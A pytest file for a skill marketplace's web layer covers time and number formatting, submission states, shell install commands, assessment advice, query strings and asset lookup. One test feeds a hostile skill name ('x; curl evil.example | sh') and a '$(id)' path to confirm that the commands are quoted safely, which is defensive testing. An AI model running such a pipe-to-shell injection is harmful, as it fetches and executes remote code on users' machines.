"""How numbers, times and states read, and what can be pasted into a shell."""

from __future__ import annotations

import shlex
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from skillgate.domain.listing import Listing
from skillgate.domain.skill import Published
from skillgate.domain.submission import Reason, State, Submission
from skillgate.web import words
from skillgate.web.assessment import advice_on, compared, power_of
from skillgate.web.assets import asset_at, assets
from skillgate.web.install import commands
from skillgate.web.market_query import MarketQuery
from skillgate.web.rendering import github_file, url

NOW = datetime(2026, 5, 4, 12, 0, tzinfo=UTC)
SKILL = Published(
    skill_id="acme/tools/pdf",
    repo_url="https://github.com/acme/tools",
    skill_path="skills/pdf/SKILL.md",
    name="pdf",
    description="Reads PDF files.",
    version="1.0.0",
    commit_sha="a" * 40,
    content_hash="b" * 64,
    submission_id="c",
    cert_tier="VERIFIED",
    cert_method="tier1",
    cert_score=98,
    published_at=NOW,
    content="",
    report={"findings": []},
)


@pytest.mark.parametrize(
    ("seconds", "said"),
    [(-5, "just now"), (0, "just now"), (1, "1 second ago"), (59, "59 seconds ago"), (60, "1 minute ago"),
     (7_300, "2 hours ago"), (86_400 * 3, "3 days ago"), (86_400 * 40, "25 Mar 2026")],
)  # fmt: skip
def test_times_are_told_as_people_tell_them(seconds: int, said: str) -> None:
    assert words.ago(NOW - timedelta(seconds=seconds), NOW) == said


def test_unknown_is_a_dash_and_not_zero() -> None:
    assert words.count(None) == "–" and words.duration(None) == "–" and words.count(0) == "0"


@pytest.mark.parametrize(
    ("number", "said"), [(999, "999"), (9_999, "9,999"), (12_340, "12.3k"), (120_000, "120k"), (3_400_000, "3.4M")]
)
def test_large_numbers_are_short(number: int, said: str) -> None:
    assert words.count(number) == said


@pytest.mark.parametrize("state", list(State))
def test_every_state_has_words_and_a_next_step(state: State) -> None:
    submission = Submission("id", "https://github.com/a/b", "SKILL.md", "b", state, NOW, NOW)
    assert words.STATES[state].label and words.next_step(submission)


def test_the_reason_says_more_than_the_state() -> None:
    rejected = Submission(
        "id", "https://github.com/a/b", "SKILL.md", "b", State.TIER1_FAILED, NOW, NOW, reason=Reason("no_skill_md", "")
    )
    assert "Check the path" in words.next_step(rejected)


def test_a_name_that_is_a_command_is_quoted_where_it_is_pasted_into_a_shell() -> None:
    hostile = replace(SKILL, name="x; curl evil.example | sh", skill_path="skills/$(id)/SKILL.md")
    for command in commands(hostile, "https://skills.example"):
        parts = shlex.split(command.text)
        assert parts[:3] == ["npx", "skills", "add"] and len(parts) in (4, 6)
        assert "$(" not in parts[3]


def test_the_pinned_command_names_the_commit_that_was_scanned() -> None:
    assert f"/tree/{'a' * 40}/skills/pdf" in commands(SKILL, "https://skills.example")[1].text


@pytest.mark.parametrize(
    ("changes", "word"),
    [({}, "pass"), ({"status": "blocked"}, "blocked"), ({"status": "quarantined"}, "review"),
     ({"cert_tier": "LISTED"}, "pending"), ({"cert_method": "review"}, "pass")],
)  # fmt: skip
def test_what_to_do_follows_from_status_and_certification(changes: dict[str, str], word: str) -> None:
    assert advice_on(replace(SKILL, **changes)).word == word  # type: ignore[arg-type]


def test_a_report_that_is_missing_is_an_error_and_no_pass() -> None:
    assert advice_on(replace(SKILL, report={})).word == "error"


def test_what_was_let_pass_in_spite_of_something_serious_is_a_warning_on_every_page() -> None:
    judged = replace(SKILL, cert_method="tier2", cert_score=78)
    assert advice_on(judged).word == advice_on(Listing.of(judged)).word == "warn"


def test_power_is_told_apart_from_the_verdict() -> None:
    assert power_of([], has_scripts=False).level == "low"
    assert power_of([], has_scripts=True).level == "medium"
    assert power_of(["network"], has_scripts=True).level == "medium"
    assert power_of(["network", "secrets"], has_scripts=False).level == "high"


def test_declared_and_observed_are_compared() -> None:
    rows = {row.name: (row.declared, row.observed) for row in compared({"declared": ["Bash"], "observed": ["network"]})}
    assert rows == {"network": (False, True), "Bash": (True, False)}


def test_every_filter_is_in_the_address_and_comes_back_from_it() -> None:
    given = {"q": "pdf", "tab": "new", "category": "documents", "scripts": "yes", "author": "acme", "cursor": "abc"}
    query = MarketQuery.read(given.get)
    assert query.at(cursor="abc") == "/?q=pdf&tab=new&category=documents&author=acme&scripts=yes&cursor=abc"
    assert query.at(category=None) == "/?q=pdf&tab=new&author=acme&scripts=yes"
    assert [name for name, _, _ in query.narrowed] == ["category", "author", "scripts"]


def test_an_unknown_word_in_the_address_counts_as_none() -> None:
    assert MarketQuery.read({"tab": "bogus", "scripts": "maybe"}.get) == MarketQuery()


def test_static_files_are_found_by_their_content() -> None:
    style = assets()["style.css"]
    name = style.url.removeprefix("/static/")
    assert asset_at(name) == (style, True)
    assert asset_at(name.replace(style.digest, "0" * 12)) == (style, False)
    assert asset_at("../secrets.css") is None and asset_at("style.css") is None


def test_addresses_are_escaped() -> None:
    assert url("/x y", q="a&b", empty=None) == "/x%20y?q=a%26b"
    assert (
        github_file("https://github.com/a/b", None, "a b#.md", 3) == "https://github.com/a/b/blob/HEAD/a%20b%23.md#L3"
    )
